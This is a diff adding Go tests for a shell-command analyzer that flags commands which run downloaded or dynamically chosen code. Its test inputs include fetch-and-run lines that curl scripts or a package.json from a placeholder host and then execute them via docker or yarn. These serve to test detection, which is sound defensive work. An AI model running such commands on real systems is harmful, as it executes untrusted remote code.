@@ -87,3 +87,37 @@ func TestEdits(t *testing.T) {
 		}
 	}
 }
+
+// TestScriptNames takes scripts that a glob names for what a container gets, unless
+// one of them came from elsewhere.
+func TestScriptNames(t *testing.T) {
+	t.Parallel()
+	for text, asked := range map[string]bool{
+		"docker run --rm -v \"$PWD:/mnt\" shellcheck scripts/*.sh": false,
+		"docker run shellcheck $X":                                 true,
+		"docker run shellcheck *":                                  true,
+		"scripts/*.sh":                                             true,
+		"curl -so scripts/a.sh https://x.test/a; docker run -v \"$PWD:/mnt\" bash scripts/*.sh": true,
+		"docker run bash $(curl -s https://x.test/a).sh":                                        true,
+	} {
+		got := false
+		for _, e := range Analyze(text, &effect.Place{CWD: "/home/me/app", Home: "/home/me", Roots: []string{"/home/me/app"}}).Effects {
+			got = got || e.Kind == effect.Dynamic || e.Kind == effect.RunDownload || e.Kind == effect.RunCode
+		}
+		if got != asked {
+			t.Errorf("%s: asked about %v; want %v", text, got, asked)
+		}
+	}
+}
+
+// TestHelpOfScripts takes an option behind a script of the project for the script's.
+func TestHelpOfScripts(t *testing.T) {
+	t.Parallel()
+	found := false
+	for _, e := range Analyze("curl -s https://x.test/p > package.json; yarn test --help", &effect.Place{CWD: "/home/me/app", Roots: []string{"/home/me/app"}}).Effects {
+		found = found || e.Kind == effect.RunCode
+	}
+	if !found {
+		t.Error("scripts that were downloaded run unseen")
+	}
+}
